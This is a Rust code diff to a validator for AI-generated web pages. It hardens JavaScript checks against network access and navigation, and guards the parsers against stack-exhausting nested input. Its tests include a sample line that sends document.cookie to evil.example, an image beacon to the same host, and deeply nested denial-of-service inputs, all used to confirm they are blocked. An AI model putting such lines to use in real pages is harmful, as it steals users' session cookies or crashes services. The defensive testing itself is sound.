@@ -213,6 +213,12 @@ pub fn html(page: &Shape, spec: &Spec) -> Verdict {
             ));
         }
     }
+    if !page.landmarks.contains("nav") {
+        v.should.push(
+            "The page has no <nav>. Put one in the <header>, linking to each section by its id."
+                .into(),
+        );
+    }
     match page.h1 {
         1 => {}
         0 => v.must.push("The page has no <h1>. Give it exactly one: the site's name.".into()),
@@ -312,8 +318,9 @@ pub fn same_outline(before: &Shape, after: &Shape) -> Verdict {
 /// Deepest nesting of brackets a validator parses; deeper replies are refused unparsed.
 const MAX_NESTING: usize = 96;
 
-/// How deep `(`, `[` and `{` nest in `code`, outside strings and comments (a close
-/// estimate: regex literals are not recognised, so it may only overcount).
+/// How deep `(`, `[` and `{` nest in `code`, outside strings and comments: an estimate
+/// (regex literals and CSS's newline-ended strings are not recognised, so it can be off
+/// either way); `parse_guarded` is what makes deep code safe.
 fn nesting(code: &str) -> usize {
     let bytes = code.as_bytes();
     let (mut depth, mut max, mut i) = (0usize, 0usize, 0usize);
@@ -356,8 +363,62 @@ fn too_deep(code: &str, file: &str) -> Option<String> {
     })
 }
 
+/// Longest stylesheet or script a validator takes: far beyond a prototype's (a stage's reply
+/// is a few thousand tokens), and it bounds the stack the parsers may need.
+const MAX_CODE_BYTES: usize = 256 << 10;
+
+/// Stack for a parser thread: a base, plus room for every byte of the input to open a level.
+/// oxc and cssparser use well under 1 KiB a level (`deep_code_cannot_exhaust_the_stack`
+/// parses the worst case); the memory is reserved, and only touched as deep as a parse goes.
+const STACK_BASE: usize = 16 << 20;
+const STACK_PER_BYTE: usize = 1 << 10;
+
+/// Run a parse of `code` on a thread whose stack fits any nesting `code` can hold.
+///
+/// SECURITY: denial of service. oxc and cssparser recurse once per nesting level and have no
+/// depth limit of their own, and a model's reply (steerable by the customer's text) can nest
+/// thousands deep. `nesting` is only a heuristic that refuses the obvious cases early (it
+/// cannot know regex literals or where CSS strings end); this is the guarantee: too long is
+/// refused, and the stack is sized for the worst case, so a stack overflow, which would abort
+/// the whole process, cannot happen. A panic in a parser becomes a failed check.
+fn parse_guarded(code: &str, file: &str, parse: impl FnOnce() -> Verdict + Send) -> Verdict {
+    if code.len() > MAX_CODE_BYTES {
+        return Verdict {
+            must: vec![format!(
+                "{file} is {} KiB; keep it under {} KiB (plain, short code).",
+                code.len() >> 10,
+                MAX_CODE_BYTES >> 10
+            )],
+            ..Verdict::default()
+        };
+    }
+    let stack = STACK_BASE + code.len() * STACK_PER_BYTE;
+    let outcome = std::thread::scope(|scope| {
+        std::thread::Builder::new()
+            .name(format!("check {file}"))
+            .stack_size(stack)
+            .spawn_scoped(scope, parse)
+            .map(|handle| handle.join())
+    });
+    match outcome {
+        Ok(Ok(verdict)) => verdict,
+        Ok(Err(_)) => Verdict {
+            must: vec![format!("{file} could not be checked (the parser failed); write it again.")],
+            ..Verdict::default()
+        },
+        Err(e) => Verdict {
+            must: vec![format!("{file} could not be checked: no thread for the parser ({e}).")],
+            ..Verdict::default()
+        },
+    }
+}
+
 /// Does `css` parse, and does it style this page?
 pub fn css(css: &str, page: &Shape) -> Verdict {
+    parse_guarded(css, "styles.css", || css_unguarded(css, page))
+}
+
+fn css_unguarded(css: &str, page: &Shape) -> Verdict {
     use cssparser::{Parser, ParserInput, StyleSheetParser};
     let mut v = Verdict::default();
     if let Some(problem) = too_deep(css, "styles.css") {
@@ -740,6 +801,10 @@ const FORBIDDEN_NEW: &[&str] =
 
 /// Does `js` parse, stay off the network, and touch only what the page has?
 pub fn js(js: &str, page: &Shape) -> Verdict {
+    parse_guarded(js, "script.js", || js_unguarded(js, page))
+}
+
+fn js_unguarded(js: &str, page: &Shape) -> Verdict {
     use oxc_ast_visit::Visit;
     let mut v = Verdict::default();
     if let Some(problem) = too_deep(js, "script.js") {
@@ -835,6 +900,13 @@ fn selector_names(selector: &str) -> Vec<String> {
     out
 }
 
+/// Names of the global object, through which every global can be reached.
+macro_rules! globals {
+    () => {
+        "window" | "self" | "globalThis" | "top" | "parent" | "frames"
+    };
+}
+
 #[derive(Default)]
 struct Finder {
     forbidden: BTreeSet<String>,
@@ -866,7 +938,15 @@ impl<'a> oxc_ast_visit::Visit<'a> for Finder {
                         _ => "",
                     };
                     match (object, prop) {
-                        ("document", "write" | "writeln") | ("navigator", "sendBeacon") => {
+                        ("document", "write" | "writeln")
+                        | ("navigator", "sendBeacon")
+                        | ("location", "assign" | "replace")
+                        | (globals!(), "open") => {
+                            self.forbidden.insert(format!("{object}.{prop}()"));
+                        }
+                        // SECURITY: `window.fetch(…)`, `globalThis["eval"](…)`: the same
+                        // calls reached through the global object.
+                        (globals!(), p) if FORBIDDEN_CALLS.contains(&p) => {
                             self.forbidden.insert(format!("{object}.{prop}()"));
                         }
                         (_, "getElementById") => {
@@ -887,10 +967,21 @@ impl<'a> oxc_ast_visit::Visit<'a> for Finder {
     }
 
     fn visit_new_expression(&mut self, it: &oxc_ast::ast::NewExpression<'a>) {
-        if let oxc_ast::ast::Expression::Identifier(id) = &it.callee
-            && FORBIDDEN_NEW.contains(&id.name.as_str())
+        let name = match &it.callee {
+            oxc_ast::ast::Expression::Identifier(id) => Some(id.name.as_str()),
+            callee => callee.get_member_expr().and_then(|m| match m.object() {
+                oxc_ast::ast::Expression::Identifier(o)
+                    if matches!(o.name.as_str(), globals!()) =>
+                {
+                    m.static_property_name()
+                }
+                _ => None,
+            }),
+        };
+        if let Some(name) = name
+            && FORBIDDEN_NEW.contains(&name)
         {
-            self.forbidden.insert(format!("new {}()", id.name));
+            self.forbidden.insert(format!("new {name}()"));
         }
         oxc_ast_visit::walk::walk_new_expression(self, it);
     }
@@ -901,10 +992,32 @@ impl<'a> oxc_ast_visit::Visit<'a> for Finder {
     }
 
     fn visit_assignment_expression(&mut self, it: &oxc_ast::ast::AssignmentExpression<'a>) {
-        if let Some(member) = it.left.as_member_expression()
-            && matches!(member.static_property_name(), Some("innerHTML" | "outerHTML"))
-        {
+        use oxc_ast::ast::{AssignmentTarget, Expression};
+        let member = it.left.as_member_expression();
+        let prop = member.and_then(|m| m.static_property_name());
+        if matches!(prop, Some("innerHTML" | "outerHTML")) {
             self.inner_html = true;
+        }
+        // SECURITY: navigating away, or loading a URL into an image or link, sends data off
+        // the site as surely as fetch() does.
+        let object = member.and_then(|m| match m.object() {
+            Expression::Identifier(id) => Some(id.name.as_str()),
+            _ => None,
+        });
+        let navigates = matches!(&it.left, AssignmentTarget::AssignmentTargetIdentifier(id) if id.name == "location")
+            || prop == Some("location")
+            || object == Some("location");
+        let external = match &it.right {
+            Expression::StringLiteral(s) => is_external(&s.value),
+            Expression::TemplateLiteral(t) => {
+                t.quasis.first().is_some_and(|q| is_external(&q.value.raw))
+            }
+            _ => false,
+        };
+        if navigates {
+            self.forbidden.insert("location = …".into());
+        } else if external && matches!(prop, Some("src" | "href" | "action" | "data")) {
+            self.forbidden.insert(format!(".{} = an external URL", prop.unwrap_or_default()));
         }
         oxc_ast_visit::walk::walk_assignment_expression(self, it);
     }
@@ -1006,6 +1119,25 @@ mod tests {
             assert!(must.contains(needle), "{needle}: {must}");
         }
         assert!(v.should[0].contains("innerHTML"));
+        // The same, reached through the global object or by navigating.
+        let v = js(
+            "window.fetch('/x');\nglobalThis['eval']('1');\nnew window.WebSocket('wss://x');\nlocation.href = 'https://evil.example/?' + document.cookie;\nnew Image().src = 'https://evil.example/p';\nwindow.open('https://x');\nlocation = '/';",
+            &page,
+        );
+        let must = v.must.join("\n");
+        for needle in [
+            "window.fetch()",
+            "globalThis.eval()",
+            "new WebSocket()",
+            "location = …",
+            ".src = an external URL",
+            "window.open()",
+        ] {
+            assert!(must.contains(needle), "{needle}: {must}");
+        }
+        assert!(
+            js("const img = new Image();\nimg.src = 'assets/images/a.png';", &page).must.is_empty()
+        );
         let v = js("function a() {\n  if (x) {\n    return 1;\n", &page);
         assert!(v.must[0].contains("does not parse") && v.must[0].contains("line"), "{v:#?}");
     }
@@ -1016,10 +1148,10 @@ mod tests {
         let deep_js = format!("{}1{}", "(".repeat(50_000), ")".repeat(50_000));
         assert!(js(&deep_js, &page).must[0].contains("50000 levels deep"));
         let deep_css =
-            format!(".a {{ width: {}1px{} }}", "calc(".repeat(50_000), ")".repeat(50_000));
+            format!(".a {{ width: {}1px{} }}", "calc(".repeat(40_000), ")".repeat(40_000));
         assert!(css(&deep_css, &page).must[0].contains("levels deep"));
         let nested =
-            format!("{}.a{{color:red}}{}", "@media screen{".repeat(20_000), "}".repeat(20_000));
+            format!("{}.a{{color:red}}{}", "@media screen{".repeat(15_000), "}".repeat(15_000));
         assert!(css(&nested, &page).must[0].contains("levels deep"));
         // Right at the limit, both parsers run on a test thread's small stack.
         let at_limit = format!("x = {}1{};", "(".repeat(MAX_NESTING), ")".repeat(MAX_NESTING));
@@ -1031,6 +1163,38 @@ mod tests {
         );
         assert!(!css(&at_limit, &page).must.iter().any(|m| m.contains("levels deep")));
         assert_eq!(nesting("a('(', \"[\") /* { */ {[]}"), 2);
+    }
+
+    /// The nesting estimate can be fooled (a quote in a comment hides brackets from it); the
+    /// guarded parse must then still neither overflow the stack nor pass the code.
+    #[test]
+    fn deep_code_cannot_exhaust_the_stack() {
+        let page = shape(PAGE);
+        let n = MAX_CODE_BYTES / 2 - 16;
+        let js_deep = format!("// it's\nx = {}1{};", "(".repeat(n), ")".repeat(n));
+        assert!(nesting(&js_deep) <= MAX_NESTING, "the estimate is fooled");
+        let v = js(&js_deep, &page);
+        assert!(v.passed() || !v.must.is_empty());
+        let arrays = format!("// it's\nx = {}1{};", "[".repeat(n), "]".repeat(n));
+        let _ = js(&arrays, &page);
+        // Recursion without brackets: unary operators, arrow functions, conditionals.
+        for deep in [
+            format!("x = {}1;", "!".repeat(2 * n)),
+            format!("x = {}1;", "a=>".repeat(2 * n / 3)),
+            format!("x = {}1;", "a?b:".repeat(2 * n / 4)),
+            format!("x = {}1;", "new ".repeat(2 * n / 4)),
+        ] {
+            assert!(deep.len() <= MAX_CODE_BYTES);
+            let _ = js(&deep, &page);
+        }
+        let css_deep = format!(
+            ".a{{content:\"x\n}} {}.nav{{color:red}}{}",
+            "@media screen{".repeat(n / 15),
+            "}".repeat(n / 15)
+        );
+        let _ = css(&css_deep, &page);
+        let too_long = "a".repeat(MAX_CODE_BYTES + 1);
+        assert!(js(&too_long, &page).must[0].contains("KiB"));
     }
 
     #[test]
